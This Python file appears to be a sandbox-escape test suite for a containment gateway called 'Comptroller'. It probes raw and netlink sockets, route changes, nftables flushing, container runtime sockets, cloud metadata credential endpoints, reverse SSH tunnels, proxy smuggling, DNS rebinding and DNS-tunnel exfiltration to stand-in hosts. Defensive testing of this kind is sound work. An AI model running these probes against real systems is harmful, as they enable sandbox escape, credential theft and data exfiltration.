"""Sockets the kernel should not give, and ways out of the box or into the machine by the network."""


# mypy: ignore-errors

from __future__ import annotations

import contextlib
import os
import shutil
import socket
import struct
import subprocess
import sys

from .kit import (
    BAIT,
    SECONDS,
    Blocked,
    append,
    attack,
    each,
    every,
    fetch,
    found,
    later,
    read,
    resolver,
    run,
    talk,
)


@each(
    "sockets",
    "{} socket",
    {
        "raw ip": (socket.AF_INET, socket.SOCK_RAW, 1),
        "raw ipv6": (socket.AF_INET6, socket.SOCK_RAW, 58),
        "raw tcp": (socket.AF_INET, socket.SOCK_RAW, 255),
        "packet": (17, socket.SOCK_RAW, 3),
        "packet datagram": (17, socket.SOCK_DGRAM, 3),
        "old packet": (socket.AF_INET, 10, 3),
        "vsock": (40, socket.SOCK_STREAM, 0),
        "alg": (38, socket.SOCK_SEQPACKET, 0),
        "bluetooth": (31, socket.SOCK_RAW, 0),
        "xdp": (44, socket.SOCK_RAW, 0),
        "can": (29, socket.SOCK_RAW, 1),
        "tipc": (30, socket.SOCK_RDM, 0),
        "rds": (21, socket.SOCK_SEQPACKET, 0),
        "kcm": (41, socket.SOCK_DGRAM, 0),
        "smc": (43, socket.SOCK_STREAM, 0),
        "qrtr": (42, socket.SOCK_DGRAM, 0),
        "pppox": (24, socket.SOCK_STREAM, 0),
        "llc": (26, socket.SOCK_DGRAM, 0),
        "netfilter netlink": (16, socket.SOCK_RAW, 12),
        "audit netlink": (16, socket.SOCK_RAW, 9),
        "uevent netlink": (16, socket.SOCK_RAW, 15),
        "diagnosis netlink": (16, socket.SOCK_RAW, 4),
        "xfrm netlink": (16, socket.SOCK_RAW, 6),
        "connector netlink": (16, socket.SOCK_RAW, 11),
        "generic netlink": (16, socket.SOCK_RAW, 16),
        "crypto netlink": (16, socket.SOCK_RAW, 21),
        "ping": (socket.AF_INET, socket.SOCK_DGRAM, 1),
        "ping ipv6": (socket.AF_INET6, socket.SOCK_DGRAM, 58),
        "sctp": (socket.AF_INET, socket.SOCK_STREAM, 132),
    },
)
def open_socket(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "opened"


@attack("sockets", "change the routes")
def change_routes():
    with socket.socket(16, socket.SOCK_RAW, 0) as link:
        body = struct.pack("=BBBBBBBBI", 2, 24, 0, 0, 254, 3, 253, 1, 0)
        body += struct.pack("=HH4s", 8, 1, bytes([203, 0, 113, 0])) + struct.pack("=HHI", 8, 4, 1)
        link.send(struct.pack("=IHHII", 16 + len(body), 24, 1 | 4 | 0x400, 1, 0) + body)
        code = struct.unpack("=i", link.recv(4096)[16:20])[0]
    if code:
        raise OSError(-code, os.strerror(-code))
    return "added a route"


@attack("sockets", "flush the packet filter")
def flush_filter():
    return run(shutil.which("nft") or "/usr/sbin/nft", "flush", "ruleset")


@attack("sockets", "take the gateway's own port")
def take_port():
    with socket.create_server(("198.18.0.1", 1)):
        return "listening"


@attack("sockets", "take the resolver's own port")
def take_resolver():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as taken:
        taken.bind(("198.18.0.1", 2))
        return "bound"


# ---------------------------------------------------------------- ways to the machine


@attack("sockets", "the program `ping`")
def ping():
    return run(found(shutil.which("ping")), "-c", "1", "-W", "1", "198.51.100.7")


@attack("machine", "a server on the machine's loopback")
def loopback():
    return talk(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", BAIT["port"]))


@attack("machine", "a server on the machine's IPv6 loopback")
def loopback6():
    return talk(socket.AF_INET6, socket.SOCK_STREAM, ("::1", BAIT["port6"]))


@attack("machine", "the machine's loopback as a mapped address")
def mapped():
    return talk(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", BAIT["port"]))


@attack("machine", "the machine's loopback as 0.0.0.0 and other spellings")
def spelled():
    return every(
        lambda host: talk(socket.AF_INET, socket.SOCK_STREAM, (host, BAIT["port"])),
        ("0.0.0.0", "127.1.2.3", "127.255.255.254"),
    )


@attack("machine", "the machine by its own addresses")
def own_addresses():
    return every(
        lambda host: talk(socket.AF_INET, socket.SOCK_STREAM, (host, BAIT["port_any"])), found(BAIT["addresses"])
    )


@attack("machine", "a datagram to the machine's loopback")
def datagram():
    return talk(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", BAIT["port_udp"]))


@attack("machine", "an abstract unix socket")
def abstract():
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + BAIT["abstract"])


@later("machine", "unix sockets of the machine", lambda: BAIT["unix"])
def unix(path):
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, path)


@later("machine", "container and system sockets", lambda: (
    "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
    "/run/crio/crio.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/socket",
    "/run/snapd.socket", "/run/libvirt/libvirt-sock", "/var/run/nscd/socket", "/run/udev/control",
))  # fmt: skip
def system_socket(path):
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, path)


@attack("machine", "another box of the same user")
def other_box():
    other = BAIT["other"]
    return every(
        lambda way: way(),
        (
            lambda: talk(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", other["port"])),
            lambda: talk(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + other["abstract"]),
            lambda: read(other["file"]),
            lambda: read("/dev/shm/" + other["shared"]),
            lambda: read(other["workspace"] + "/other.py"),
            lambda: append(other["workspace"] + "/planted", "planted"),
        ),
    )


@attack("machine", "Comptroller's own console, API and health by allowed hosts that lead there")
def own_pages():
    return every(
        lambda way: page(*way), [(host, path) for host in BAIT["pages"] for path in ("/healthz", "/metrics", "/")]
    )


def page(host, path):
    name, _, port = host.partition(":")
    request = f"GET {path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode()
    answer = talk(socket.AF_INET, socket.SOCK_STREAM, (name, int(port or 80)), request, 4000)
    if b"x-comptroller-reason" in answer.lower():
        raise Blocked(answer.split(b"\r\n")[0].decode(errors="replace"))
    return answer[:200]


# ---------------------------------------------------------------- the network


@each(
    "network",
    "a connection to {}",
    {
        "an address (v4)": ("198.51.100.7", 443),
        "an address (v6)": ("2001:db8::7", 443),
        "another port": ("198.51.100.7", 31337),
        "a mapped address": ("::ffff:198.51.100.7", 8443),
        "a private network": ("10.0.0.1", 80),
        "a mail server": ("198.51.100.25", 25),
        "a mining pool": ("198.51.100.9", 3333),
    },
)
def direct(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    answer = talk(family, socket.SOCK_STREAM, (host, port), b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
    if b"comptroller" in answer.lower() or b"400" in answer[:20] or answer[:1] == b"\x15":
        raise Blocked(answer[:80].decode(errors="replace").strip())
    return answer[:80]


@attack("network", "reverse ssh")
def reverse_ssh():
    with socket.create_connection(("198.51.100.22", 22), timeout=SECONDS) as connection:
        connection.settimeout(SECONDS)
        connection.sendall(b"SSH-2.0-OpenSSH_9.9\r\n")
        answer = found(connection.recv(200))
    if not answer.startswith(b"SSH-"):
        raise Blocked(answer[:80].decode(errors="replace"))
    return answer


@attack("network", "reverse ssh by ssh itself")
def reverse_ssh_program():
    options = ("StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "ConnectTimeout=3", "BatchMode=yes")
    words = [word for option in options for word in ("-o", option)]
    done = subprocess.run(
        [found(shutil.which("ssh")), *words, "-v", "-F", "/dev/null", "-N", "-R", "0:127.0.0.1:1", "x@198.51.100.22"],
        capture_output=True, stdin=subprocess.DEVNULL, timeout=20,
    )  # fmt: skip
    said = done.stderr.decode(errors="replace")
    if "Remote protocol version" in said or done.returncode == 0:
        return "an ssh server answered"
    raise Blocked(said.strip().rpartition("\n")[2])


@attack("network", "without any variable of ours")
def stripped():
    code = "import urllib.request as u; print(u.urlopen('http://198.51.100.7/', timeout=3).status)"
    return run("/usr/bin/env", "-i", sys.executable, "-I", "-c", code)


@each(
    "network",
    "datagrams to {}",
    {"anywhere": ("198.51.100.7", 9999), "a resolver": ("198.51.100.53", 53), "QUIC": ("198.51.100.7", 443)},
)
def udp(host, port):
    packet = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\1x\7example\0\0\x10\0\1"
    if port == 443:
        # The beginning of a QUIC connection: a long header, version 1, padded to the length that servers want.
        packet = (b"\xc3\0\0\0\1\x08" + b"d" * 8 + b"\0\0\x44\x96").ljust(1200, b"q")
    answer = talk(socket.AF_INET, socket.SOCK_DGRAM, (host, port), packet)
    if port == 53 and (answer[3] & 15 or answer[6:8] == b"\0\0"):
        raise Blocked(f"code {answer[3] & 15}")
    return answer


@each(
    "network",
    "cloud metadata at {}",
    {
        "169.254.169.254": ("169.254.169.254", "/latest/meta-data/iam/security-credentials/", ""),
        "its token address": ("169.254.169.254", "/latest/api/token", "X-aws-ec2-metadata-token-ttl-seconds: 60\r\n"),
        "fd00:ec2::254": ("fd00:ec2::254", "/latest/meta-data/", ""),
        "the task address": ("169.254.170.2", "/v2/credentials/", ""),
        "metadata.google.internal": ("metadata.google.internal", "/computeMetadata/v1/", "Metadata-Flavor: Google\r\n"),
        "Azure": ("169.254.169.254", "/metadata/instance?api-version=2021-02-01", "Metadata: true\r\n"),
        "Azure's wire server": ("168.63.129.16", "/machine?comp=goalstate", ""),
        "Alibaba": ("100.100.100.200", "/latest/meta-data/", ""),
        "metadata.azure.internal": ("metadata.azure.internal", "/", ""),
    },
)
def metadata(host, path, headers):
    return fetch(host, path, headers)


@attack("network", "cloud metadata in other spellings")
def metadata_spelled():
    return every(
        lambda host: fetch(host, "/latest/meta-data/"),
        ("2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "::ffff:169.254.169.254", "instance-data"),
    )


@each(
    "network",
    "the gateway as a proxy: {}",
    {
        "CONNECT": "CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\nGET / HTTP/1.0\r\n\r\n",
        "an absolute target": "GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
        "another host in the head": "GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
        "two hosts": "GET / HTTP/1.1\r\nHost: shop.example.com\r\nHost: 127.0.0.1:{port}\r\n\r\n",
        "SOCKS": "\x05\x01\x00",
    },
)
def as_proxy(text):
    """A server of the machine answers whoever reaches it with a mark."""
    with socket.create_connection(("198.51.100.80", 80), timeout=SECONDS) as link:
        link.settimeout(SECONDS)
        link.sendall(text.format(port=BAIT["port"]).encode())
        answer = link.recv(4000)
        with contextlib.suppress(OSError):
            while piece := link.recv(4000):
                answer += piece
    answer = found(answer)
    if text == "\x05\x01\x00" and answer[:2] == b"\x05\0":
        return "a SOCKS server answers"
    if any(canary.encode() in answer for canary in BAIT["canaries"]):
        return "a server of the machine answered"
    raise Blocked(answer[:80].decode(errors="replace").strip())


@attack("network", "the machine's loopback by a name")
def rebound():
    return every(
        lambda host: fetch(host, port=BAIT["port"]),
        ("localtest.me", "127.0.0.1.nip.io", "host.docker.internal", "gateway.docker.internal", BAIT["host"]),
    )


def query(name, kind):
    """The records that are answered, other than an address of the gateway's own. Raises where there are none."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    packet = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(SECONDS)
        link.sendto(packet, (resolver(), 53))
        answer = link.recv(4096)
    count = struct.unpack("!H", answer[6:8])[0]
    records = answer[len(packet) :]
    if count == 0 or (count == 1 and len(records) == 16 and records[-4:-2] in (b"\xc6\x12", b"\xc6\x13")):
        raise Blocked(f"code {answer[3] & 15}, nothing but an address of the gateway's own")
    return records


@each("dns", "a tunnel through {} records", {"TXT": 16, "NULL": 10, "MX": 15, "CNAME": 5, "SRV": 33, "ANY": 255})
def tunnel(kind):
    return query("c2VjcmV0.tunnel.example.net", kind)


@attack("dns", "a tunnel through long labels")
def long_labels():
    return query(".".join(["a" * 63] * 3 + ["b" * 40, "example.net"]), 16)


@attack("dns", "a tunnel through many names")
def many_names():
    """The names must reach nobody: what resolves is an address of ours, whatever was asked."""
    for number in range(200):
        with contextlib.suppress(OSError):
            address = socket.gethostbyname(f"x{number:05d}.exfiltrate.example.net")
            if not address.startswith("198.1"):
                return f"a real address: {address}"
    raise Blocked("200 names, none left")


@attack("dns", "a resolver of its own choice over TCP")
def resolver_tcp():
    packet = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\1x\7example\3net\0\0\x10\0\1"
    answer = talk(socket.AF_INET, socket.SOCK_STREAM, ("198.51.100.53", 53), struct.pack("!H", len(packet)) + packet)
    if len(answer) < 6 or answer[5] & 15 or answer[8:10] == b"\0\0":
        raise Blocked("no answer records")
    return answer
